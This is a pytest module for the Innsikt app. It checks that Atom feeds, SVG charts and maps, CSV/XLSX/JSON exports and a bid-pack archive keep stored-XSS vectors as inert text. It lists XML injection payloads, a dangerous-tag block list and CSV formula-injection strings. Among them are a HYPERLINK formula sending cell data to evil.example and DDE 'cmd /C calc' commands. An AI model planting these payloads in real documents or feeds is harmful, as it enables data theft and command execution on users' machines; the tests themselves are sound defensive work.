"""The stored-XSS corpus in what Innsikt writes besides pages: Atom feeds, SVG journey maps and
charts, CSV/XLSX/JSON exports and the bid pack. Every output must be well-formed in its own
format and hold each vector only as text (never as an element, an attribute or a formula).

The corpus is the one of tests/browser/test_xss.py (every vector in every text field staff and
suppliers write), plus XML tricks for feeds and SVG, CSV formula vectors at the start of cells,
a saved search and the site settings. One app for the module; outputs fetched as users do.
(The same outputs opened in Chromium: tests/browser/test_xss_outputs.py.)"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from dataclasses import dataclass
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook

from insight.charts import bars
from insight.charts.svg import wrap
from insight.extensions import db
from insight.services import accounts, feeds, observations, publishing, saved_searches, site
from insight.services.demo import DEMO_PASSWORD
from tests.browser.conftest import demo_app
from tests.browser.test_xss import ADMIN, GROUPS, REVIEWER, STAFF, VECTORS, joined, seed, word

# Feeds and SVG are XML: a vector may try to close a CDATA section, declare an entity or
# smuggle a processing instruction or an XHTML script element.
XML_VECTORS = {
    "cdata_close": "]]><script>alert(1)</script><![CDATA[",
    "entity_decl": '<!DOCTYPE x [<!ENTITY e "alert(1)">]>&e;',
    "processing_instruction": '<?xml-stylesheet type="text/xsl" href="javascript:alert(1)"?>',
    "xhtml_script": '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
    "svg_script": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "comment_break": "--><script>alert(1)</script><!--",
}
# What a spreadsheet would run if a cell began with it (OWASP's list: = + - @ tab CR).
FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1;"Klikk her")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1+HYPERLINK(\"http://evil.example\")",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def formula_like(cell: str) -> bool:
    """A cell a spreadsheet would evaluate: begins with a formula character, not a number."""
    return cell.startswith(FORMULA_START) and not NUMBER.match(cell)
STAFF_WRITER = "skribent@innsikt.example"
ATOM = "{http://www.w3.org/2005/Atom}"


@dataclass
class Outputs:
    app: object
    made: list[dict]
    formulas: dict[str, str]  # key → the observation ref whose text fields begin with it
    feed_token: str
    saved_id: int


def _client(app, email: str | None):
    client = app.test_client()
    client.get("/?lang=en")
    if email:
        response = client.post("/auth/login", data={"email": email, "password": DEMO_PASSWORD})
        assert response.status_code == 302, email
    return client


def _seed_extras(app) -> tuple[dict[str, str], str, int]:
    with app.app_context():
        author, reviewer = accounts.find_by_email(STAFF), accounts.find_by_email(REVIEWER)
        admin = accounts.find_by_email(ADMIN)
        fields = {"source": "intervju", "stay_type": "avlastning",
                  "journey_stage": "under_oppholdet", "actor": "bruker", "month": "2026-11",
                  "age_band": "80-89", "visibility": "public"}
        formulas = {}
        for key, formula in FORMULAS.items():
            item = observations.create({**fields, "title": f"{formula} formelord",
                                        "text": formula, "unit": formula}, author)
            publishing.send_to_review(item, author)
            publishing.publish(item, reviewer)
            formulas[key] = item.ref
        for vector in XML_VECTORS.values():
            item = observations.create({**fields, "title": f"xmlord {vector}",
                                        "text": f"xmlord {vector}"}, author)
            publishing.send_to_review(item, author)
            publishing.publish(item, reviewer)
        site.update({"municipality": VECTORS["script"], "competition_title": joined(0),
                     "competition_summary": joined(1, "\n"),
                     "contact": VECTORS["javascript_url"]}, admin)
        supplier = accounts.find_by_email("xss0@leverandor.example")
        token = feeds.reset_token(supplier)
        saved = saved_searches.save(supplier, f"Lagret {joined(0)}"[:100], word(0))
        db.session.commit()
        return formulas, token, saved.id


@pytest.fixture(scope="module")
def outputs(tmp_path_factory, migrated_database) -> Outputs:
    app = demo_app(tmp_path_factory.mktemp("xss_outputs"), migrated_database)
    app.config["WTF_CSRF_ENABLED"] = False  # these tests post the login form directly
    made = seed(app)
    formulas, token, saved_id = _seed_extras(app)
    return Outputs(app, made, formulas, token, saved_id)


# -- what a vector may never become -------------------------------------------------------------

class Markup(HTMLParser):
    """Tags, attributes and text of an HTML document or fragment."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data):
        self.text.append(data)


DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "foreignobject", "details", "img",
                  "svg", "style", "link", "meta", "base", "form", "a", "set", "animate"}
SCRIPT_URL = re.compile(r"^\s*(javascript|data|vbscript):", re.I)


def _local(tag: str) -> str:
    return tag.rsplit("}", 1)[-1].lower()


def xml_problems(root: ElementTree.Element, allowed: set[str]) -> list[str]:
    """Elements outside `allowed`, event-handler attributes and script URLs in an XML tree."""
    found = []
    for element in root.iter():
        if _local(element.tag) not in allowed:
            found.append(element.tag)
        for name, value in element.attrib.items():
            if _local(name).startswith("on"):
                found.append(f"{element.tag} {name}")
            if _local(name) in ("href", "src") and SCRIPT_URL.match(value):
                found.append(f"{element.tag} {name}={value}")
    return found


def xml_text(root: ElementTree.Element) -> str:
    return "\n".join(t for e in root.iter() for t in (e.text, e.tail) if t) + "\n" + \
        "\n".join(v for e in root.iter() for v in e.attrib.values())


def missing(text: str, vectors: dict[str, str], keys=None) -> list[str]:
    return [k for k in (keys or vectors) if vectors[k] not in text]


# -- Atom feeds ---------------------------------------------------------------------------------

ATOM_ELEMENTS = {"feed", "id", "title", "link", "updated", "entry", "content", "summary",
                 "author", "name", "generator", "subtitle", "category", "rights", "email", "uri"}


def feed_of(client, path: str) -> ElementTree.Element:
    response = client.get(path)
    assert response.status_code == 200, path
    assert response.mimetype == "application/atom+xml"
    return ElementTree.fromstring(response.data)  # raises on anything not well-formed


def entries_text(root: ElementTree.Element) -> str:
    return "\n".join(e.text or "" for e in root.iter(f"{ATOM}title"))


def test_the_public_change_feed_is_well_formed_with_every_vector_as_text(outputs):
    root = feed_of(_client(outputs.app, None), "/changes.atom")
    assert xml_problems(root, ATOM_ELEMENTS) == []
    titles = entries_text(root)
    assert missing(titles, VECTORS, [k for g in GROUPS for k in g]) == []
    assert missing(titles, XML_VECTORS) == []


@pytest.mark.parametrize("feed", ["changes.atom", "answers.atom", "saved"])
def test_each_secret_feed_is_well_formed_and_holds_vectors_as_text(outputs, feed):
    path = f"/feeds/{outputs.feed_token}/" + (
        f"searches/{outputs.saved_id}.atom" if feed == "saved" else feed)
    root = feed_of(_client(outputs.app, None), path)
    assert xml_problems(root, ATOM_ELEMENTS) == []
    text = xml_text(root)
    assert missing(text, VECTORS, GROUPS[0]) == []
    if feed == "answers.atom":  # the answer itself is text content, lines joined
        contents = [c.text or "" for c in root.iter(f"{ATOM}content")]
        assert all(c.attrib.get("type", "text") == "text" for c in root.iter(f"{ATOM}content"))
        assert any(joined(0, "\n") in c for c in contents)


def test_the_saved_search_feed_names_the_search_as_text(outputs):
    root = feed_of(_client(outputs.app, None),
                   f"/feeds/{outputs.feed_token}/searches/{outputs.saved_id}.atom")
    assert joined(0)[:60] in root.find(f"{ATOM}title").text


def test_html_summaries_in_the_saved_search_feed_hold_only_highlight_marks(outputs):
    """Atom `type="html"` summaries are HTML a reader renders: only <mark> may be markup."""
    root = feed_of(_client(outputs.app, None),
                   f"/feeds/{outputs.feed_token}/searches/{outputs.saved_id}.atom")
    summaries = [s.text or "" for s in root.iter(f"{ATOM}summary")]
    assert summaries
    for summary in summaries:
        parsed = Markup(summary)
        assert set(parsed.tags) <= {"mark"} and parsed.attributes == []


# -- SVG: journey maps and charts -------------------------------------------------------------

SVG_ELEMENTS = {"svg", "title", "desc", "g", "rect", "line", "text", "tspan", "path",
                "circle", "polyline", "polygon", "a", "defs", "style"}


def svg_of(data: bytes) -> ElementTree.Element:
    root = ElementTree.fromstring(data)
    assert _local(root.tag) == "svg"
    return root


def link_problems(root: ElementTree.Element) -> list[str]:
    """Links inside the map only point within it (#step-N)."""
    return [v for e in root.iter() for k, v in e.attrib.items()
            if _local(k) == "href" and not v.startswith("#")]


@pytest.mark.parametrize("index", range(len(GROUPS)))
def test_the_journey_map_download_is_well_formed_with_vectors_as_text(outputs, index):
    ref = outputs.made[index]["journey"]
    response = _client(outputs.app, None).get(f"/journeys/{ref}/map.svg")
    assert response.status_code == 200 and response.mimetype == "image/svg+xml"
    root = svg_of(response.data)
    assert xml_problems(root, SVG_ELEMENTS) == [] and link_problems(root) == []
    assert missing(xml_text(root), VECTORS, GROUPS[index]) == []


def test_a_chart_with_vectors_for_labels_is_well_formed_with_them_as_text():
    labels = [*VECTORS.values(), *XML_VECTORS.values()]
    chart = bars.bar_chart([bars.Bar(label, n, str(n)) for n, label in enumerate(labels, 1)],
                           title=VECTORS["title_break"], description=XML_VECTORS["cdata_close"],
                           id_prefix="chart-x")
    grid = bars.heat_map(labels[:5], labels[5:10], [[(1, "1")] * 5 for _ in range(5)],
                         title=VECTORS["script"], description=VECTORS["svg_onload"],
                         id_prefix="chart-y")
    for picture in (chart, grid):
        assert xml_problems(svg_of(str(picture).encode()), SVG_ELEMENTS) == []
    shown = {str(i): wrap(v, 34, 1)[0] for i, v in enumerate(labels)}  # a bar's label line
    assert missing(xml_text(svg_of(str(chart).encode())), shown) == []
    lines = {f"{i}.{k}": line for i, v in enumerate(labels[:10])  # rows 30 wide, columns 13
             for k, line in enumerate(wrap(v, 30, 2) if i < 5 else wrap(v, 13, 3))}
    assert missing(xml_text(svg_of(str(grid).encode())), lines) == []


def test_the_statistics_page_charts_are_well_formed_svg(outputs):
    page = _client(outputs.app, None).get("/statistics").get_data(as_text=True)
    charts = re.findall(r"<svg\b.*?</svg>", page, re.S)
    assert len(charts) >= 3
    for chart in charts:
        assert xml_problems(svg_of(chart.encode()), SVG_ELEMENTS) == []


# -- exports ----------------------------------------------------------------------------------

def export(outputs, kind: str, fmt: str, email: str = STAFF) -> bytes:
    response = _client(outputs.app, email).get(f"/export/{kind}.{fmt}")
    assert response.status_code == 200, (kind, fmt)
    return response.data


def csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


KINDS = ["observations", "insights", "personas", "journeys", "questions"]


@pytest.mark.parametrize("kind", KINDS)
def test_no_csv_cell_begins_with_a_formula_character(outputs, kind):
    cells = [c for row in csv_cells(export(outputs, kind, "csv")) for c in row]
    assert [c for c in cells if formula_like(c)] == []


def stored_texts(outputs) -> dict[str, str]:
    """The text field of each formula observation as stored (leading white space trimmed)."""
    items = json.loads(export(outputs, "observations", "json"))["items"]
    texts = {item["ref"]: item["text"] for item in items}
    return {key: texts[ref] for key, ref in outputs.formulas.items()}


def test_formula_vectors_are_kept_in_csv_as_text_behind_an_apostrophe(outputs):
    cells = {c for row in csv_cells(export(outputs, "observations", "csv")) for c in row}
    for key, text in stored_texts(outputs).items():
        assert text.startswith(FORMULA_START), key  # still a formula as stored
        assert "'" + text in cells, key  # exactly that text, made inert


@pytest.mark.parametrize("kind", KINDS)
def test_no_xlsx_cell_is_a_formula(outputs, kind):
    sheet = load_workbook(io.BytesIO(export(outputs, kind, "xlsx"))).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if isinstance(c.value, str) and formula_like(c.value)] == []


def test_a_control_character_before_a_formula_does_not_turn_into_one_in_xlsx():
    """openpyxl drops control characters a cell cannot hold; the neutralising must see the
    text as the spreadsheet will."""
    from insight.services.exports import Dataset, to_xlsx

    data = Dataset("x", [], ["a", "b"], [["\x01=HYPERLINK(\"http://evil.example\")",
                                          "\x0b\x1f+1+1"]])
    sheet = load_workbook(io.BytesIO(to_xlsx(data))).active
    values = [c.value for c in sheet[2]]
    assert [c.data_type for c in sheet[2]] == ["s", "s"]
    assert values == ["'=HYPERLINK(\"http://evil.example\")", "'+1+1"]


def test_the_json_export_returns_every_vector_exactly(outputs):
    body = json.loads(export(outputs, "observations", "json"))
    titles = {item["title"] for item in body["items"]}
    for index in range(len(GROUPS)):
        assert f"{word(index)} {joined(index)}" in titles
    assert {f"{f} formelord" for f in FORMULAS.values() if f[0] not in "\t\r"} - titles == set()


def test_the_json_export_escapes_script_closing_when_read_as_text(outputs):
    """A JSON file opened in a browser is text: no <script> context to break out of, but a
    consumer pasting it into a page gets valid JSON whose strings decode to the vectors."""
    data = export(outputs, "observations", "json")
    assert json.loads(data.decode("utf-8"))["count"] > 0
    assert b"\x00" not in data


# -- the bid pack -----------------------------------------------------------------------------

@pytest.fixture(scope="module")
def bid_pack(outputs) -> dict[str, bytes]:
    client = _client(outputs.app, "xss0@leverandor.example")
    page = client.get("/bid-pack").get_data(as_text=True)
    link = re.search(r'href="(/bid-pack/innsikt-\d+\.zip)"', page).group(1)
    with zipfile.ZipFile(io.BytesIO(client.get(link).data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_every_persona_card_is_inert_html_with_vectors_as_text(outputs, bid_pack):
    cards = {n: d for n, d in bid_pack.items() if n.startswith("persona-cards/")}
    for index, made in enumerate(outputs.made):
        parsed = Markup(cards[f"persona-cards/{made['persona']}.html"].decode("utf-8"))
        assert DANGEROUS_TAGS & set(parsed.tags) <= {"a", "meta", "style"}
        assert [a for a in parsed.attributes if a[1].startswith("on")] == []
        assert [a for a in parsed.attributes if a[1] in ("href", "src")
                and SCRIPT_URL.match(a[2])] == []
        assert parsed.tags.count("style") == 1 and parsed.tags.count("meta") <= 2
        assert missing("".join(parsed.text), VECTORS, GROUPS[index]) == []


def test_the_bid_pack_maps_and_csv_files_are_inert_too(bid_pack):
    for name, data in bid_pack.items():
        if name.endswith(".svg"):
            root = svg_of(data)
            assert xml_problems(root, SVG_ELEMENTS) == [] and link_problems(root) == [], name
        if name.endswith(".csv"):
            cells = [c for row in csv_cells(data) for c in row]
            assert [c for c in cells if formula_like(c)] == [], name


def test_the_bid_pack_readme_holds_no_content_text(bid_pack):
    readme = bid_pack["README.txt"].decode("utf-8")
    assert "<" not in readme.replace("<fil>", "")
    assert not any(v in readme for v in (*VECTORS.values(), *FORMULAS.values()))
